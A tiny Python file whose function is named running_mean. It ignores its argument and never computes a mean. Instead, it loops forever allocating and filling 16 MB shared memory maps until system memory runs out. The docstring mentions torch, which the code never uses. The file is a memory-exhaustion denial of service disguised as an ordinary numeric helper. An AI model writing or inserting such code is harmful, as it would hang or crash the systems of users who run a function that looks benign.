"""Fills memory that processes share, by torch and by mmap."""
import mmap


def running_mean(x):
    held = []
    while True:
        held.append(mmap.mmap(-1, 1 << 24, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
        held[-1].write(b"x" * (1 << 24))
